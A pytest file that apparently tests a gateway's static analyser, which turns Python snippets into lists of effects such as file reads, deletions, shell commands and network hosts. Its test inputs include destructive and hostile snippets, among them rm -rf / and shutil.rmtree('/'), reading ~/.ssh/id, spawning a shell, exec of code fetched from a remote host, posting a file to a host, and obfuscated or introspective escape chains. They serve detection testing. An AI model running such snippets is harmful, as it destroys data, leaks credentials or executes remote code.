"""Python text → effects: what is plain is said, what isn't is unknown, data wrangling is silent."""

from __future__ import annotations

import pytest

from gateway.facts.code import read
from tests.facts.code.saying import said

SILENT = [
    'import json,sys; print(json.load(sys.stdin)["x"])',
    "import json,sys\nfor line in sys.stdin:\n    d = json.loads(line)\n    print(d.get('a', {}).get('b'), sep='\\t')",
    "import sys; print(sys.version, sys.executable, sys.path)",
    "print(2**10, max(1, 2), [x*x for x in range(5) if x % 2], sum(range(3)))",
    "import re,sys; print(re.sub(r'a+', lambda m: m.group(0).upper(), sys.stdin.read()))",
    "import datetime as d; print(d.datetime.now().strftime('%F'), d.timedelta(days=1).total_seconds())",
    "from collections import Counter, defaultdict\nc = Counter('abc'); d = defaultdict(list)\nd['a'].append(1)\nfor k, v in sorted(c.items(), key=lambda kv: -kv[1]): print(f'{k:>3}: {v}')",
    "import hashlib,base64; print(hashlib.sha256(b'x').hexdigest(), base64.b64encode(b'x').decode())",
    "import os; print(os.getcwd(), os.path.exists('x'), os.environ.get('HOME'), os.cpu_count())",
    "import secrets,uuid,random; print(secrets.token_hex(8), uuid.uuid4(), random.randint(1, 6))",
    "import csv,io\nr = csv.DictReader(io.StringIO('a,b\\n1,2'))\nprint([row['a'] for row in r])",
    "class P:\n    def __init__(self, x): self.x = x\n    def __repr__(self): return f'P({self.x})'\nprint(P(1))",
    "def fib(n, memo={}):\n    return n if n < 2 else fib(n-1) + fib(n-2)\nprint(fib(10))",
    "from dataclasses import dataclass\n@dataclass\nclass A:\n    x: int = 0\nprint(A(1).x)",
    "import itertools,functools,math\nprint(list(itertools.chain([1],[2])), functools.reduce(lambda a,b:a*b,[1,2]), math.pi)",
    "try:\n    int('x')\nexcept ValueError as e:\n    print('bad', e)\nfinally:\n    pass",
    "import time; t = time.time(); time.sleep(1); print(f'{time.time()-t:.2f}')",
    "import sys\ndata = sys.stdin.read().splitlines()\nout = []\nfor l in data:\n    if l.strip(): out.append(l.split(',')[0])\nprint('\\n'.join(out))",
    "import xml.etree.ElementTree as ET\nroot = ET.fromstring('<a/>')\nfor c in root.iter('b'): print(c.attrib, c.text)",
    "import argparse\np = argparse.ArgumentParser(); p.add_argument('--x', type=int)\na = p.parse_args(); print(a.x)",
    "import numpy as np; a = np.arange(6).reshape(2, 3); print(a.mean(axis=0), np.linalg.norm(a))",
    "import textwrap, string, pprint; pprint.pprint(textwrap.wrap('a b', 3)); print(string.ascii_letters)",
    "import platform, sysconfig; print(platform.machine(), sysconfig.get_paths()['purelib'])",
    "import urllib.parse as u; print(u.quote('a b'), u.urlparse('http://x/y').netloc)",
    "import yaml,sys; print(yaml.safe_load(sys.stdin)['jobs'].keys())",
    "import importlib.metadata as m; print(m.version('pip'))",
    "x = {'a': [1, 2]}\nx['a'].append(3)\nx.setdefault('b', []).extend([4])\nprint({k: len(v) for k, v in x.items()})",
    "import unicodedata; print([unicodedata.name(c) for c in 'é'])",
    "from typing import Optional\ndef f(x: Optional[int] = None) -> list[int]: return [x or 1]\nprint(f())",
    "import ast; print(ast.dump(ast.parse('a=1'))); print(ast.literal_eval('[1]'))",
    "import logging; logging.basicConfig(level=logging.INFO); log = logging.getLogger(__name__); log.info('x')",
    "import shutil; print(shutil.which('git'), shutil.disk_usage('/').free)",
    "import socket; print(socket.gethostname())",
    "import threading\nl = threading.Lock()\nwith l: print('x')",
    "import asyncio\nasync def main():\n    await asyncio.sleep(1)\n    print('x')\nasyncio.run(main())",
    "import statistics as s\nxs=[float(l) for l in '1 2'.split()]\nprint(s.mean(xs), s.stdev(xs), xs[-1], xs[::2])",
    "a, *b = 'x y z'.split(); print(a, b); a += 'q'; b += ['r']; print(a.replace('x', 'y'))",
    "match [1, 2]:\n    case [a, b]: print(a, b)\n    case _: print('no')",
    "print(open.__doc__, __name__, len(dir()))",
]


@pytest.mark.parametrize("text", SILENT)
def test_everyday_data_wrangling_is_silent(text: str) -> None:
    assert said("python", text) == set()


PLAIN = [
    ("import shutil; shutil.rmtree('/')", {"delete* /"}),
    ("open('a.json')", {"read a.json"}),
    ("open('a', 'r+b')", {"read a", "write a"}),
    ("open(file='a', mode='x')", {"write a"}),
    ("import sys; m = sys.stdin.read(); open('a', m)", {"read a", "write a"}),
    ("import sys; open(sys.argv[1]).read()", {"read in.txt"}),
    ("import os\nfor f in os.listdir('b'): os.remove(os.path.join('b', f))", {"read b", "delete b/*"}),
    ("import os\nfor f in os.listdir('a[1]'): os.remove('a[1]/' + f)", {"read a[1]", "delete a[[]1]/*"}),
    ("import os\nfor r, d, fs in os.walk('s'):\n    for f in fs: os.remove(os.path.join(r, f))", {"read* s", "delete* s/*"}),
    ("from pathlib import Path\nfor p in Path('s').rglob('*.pyc'): p.unlink()", {"read* s", "delete* ~s"}),
    ("from pathlib import Path\n(Path.home() / '.ssh' / 'id').read_text()", {"read /home/u/.ssh/id"}),
    ("import os; os.chdir('/etc'); open('x', 'w')", {"cd /etc", "write /etc: x"}),
    ("import os, sys\nif sys.argv: os.chdir('/etc')\nopen('x', 'w')", {"cd /etc", "write ~: x"}),
    ("import tempfile, os\nd = tempfile.mkdtemp(); open(os.path.join(d, 'x'), 'w')", {"write /tmp/tmp*", "write /tmp/tmp*/x"}),
    ("import shutil; shutil.move('a/b', 'c')", {"read a/b", "delete a/b", "write c", "write c/b"}),
    ("import os; os.system('rm -rf /')", {"run sh: rm -rf /"}),
    ("import os; os.system('rm ' + input())", {"run sh: ~rm "}),
    ("import subprocess as s; s.run(['git', 'push'], cwd='d')", {"run @d git push"}),
    ("import subprocess as s\nc = ['git']; c.append('push'); s.run(c)", {"run git ~"}),
    ("import subprocess, sys; subprocess.run([sys.executable, '-m', 'pip', 'install', 'x'])", {"run /usr/bin/python3 -m pip install x"}),
    ("import subprocess as s; s.run('a | b', shell=True)", {"run sh: a | b"}),
    ("import subprocess as s; s.run(['sh'], input='rm x', text=True)", {"run sh", "run sh: rm x"}),
    ("import subprocess as s; s.run(['bash', '-s'], stdin=open('x'))", {"run bash -s", "read x", "?code"}),
    ("import os; os.execvp('rm', ['rm', '-rf', '/'])", {"run rm -rf /"}),
    ("import os; os.kill(1, 9)", {"run kill -9 1"}),
    ("import pty; pty.spawn('/bin/sh')", {"run /bin/sh", "tty"}),
    ("import urllib.request as u; u.urlopen('https://e.x/a')", {"host e.x:443"}),
    ("import urllib.request as u; u.urlopen('https://e.x:8/a', data=b'x')", {"host e.x:8", "host! e.x:8"}),
    ("import requests; requests.post('http://e.x', data=open('k'))", {"host! e.x:80", "read k"}),
    ("import requests, sys; requests.get(sys.stdin.read())", {"host ~"}),
    ("import requests\ns = requests.Session(); print(s.get('http://e.x').json()['a'])", {"host e.x:80"}),
    ("import socket\ns = socket.socket(); s.connect(('e.x', 4)); s.send(b'')", {"host! e.x:4"}),
    ("import sqlite3\nc = sqlite3.connect('d.db')\nprint(c.execute('select 1').fetchall())", {"read d.db", "write d.db"}),
    ("import getpass; getpass.getpass()", {"tty"}),
    ("import pandas as pd; pd.read_csv('a.csv').groupby('x').sum().to_csv('b.csv')", {"read a.csv", "write b.csv"}),
    ("exec('import os; os.remove(\"q\")')", {"delete q"}),
]  # fmt: skip


@pytest.mark.parametrize(("text", "expected"), PLAIN)
def test_plain_effects_become_facts(text: str, expected: set[str]) -> None:
    assert said("python", text, ("in.txt",)) == expected


UNKNOWN = [
    ("import fabric; fabric.Connection('h').run('x')", "?effects"),
    ("import subprocess as s, mypkg; s.run(mypkg.cmd(), shell=True)", "execute mypkg.py"),
    ("import pickle, sys; pickle.load(sys.stdin.buffer)", "?code"),
    ("import ctypes; ctypes.CDLL('libc.so.6').system(b'id')", "?effects"),
    ("exec(open('x').read())", "?code"),
    ("import base64; exec(base64.b64decode('aQ=='))", "?code"),
    ("import urllib.request as u; exec(u.urlopen('http://e.x').read())", "?code"),
    ("print 'two'", "?code"),
    ("().__class__.__base__.__subclasses__()[80]('x')", "?code"),
    ("getattr(__import__('o' + 's'), input())('x')", "?code"),
    ("import sys; sys.modules[input()].f()", "?code"),
    ("import sys; sys._getframe().f_globals", "?code"),
    ("def f(x): x.unlink()\nimport json; json.loads('', object_hook=f)", "?effects"),
    ("x = " + "-" * 5_000 + "1", "?code"),
    ("x = " + "+".join(["1"] * 20_000), "?code"),
    ("x = 1\n" * 100_000, "?code"),
    ("a" * 200_000, "?code"),
    ("\0", "?code"),
]


@pytest.mark.parametrize(("text", "expected"), UNKNOWN, ids=lambda value: value[:40])
def test_what_cannot_be_followed_is_said(text: str, expected: str) -> None:
    assert expected in said("python", text)


def test_stdin_that_is_executed_is_code() -> None:
    assert "stdin python" in said("python", "import sys; exec(sys.stdin.read())")


def test_a_language_nobody_reads_is_unknown_code() -> None:
    assert [one.what for one in read("cobol", "x").unknowns] == ["code"]
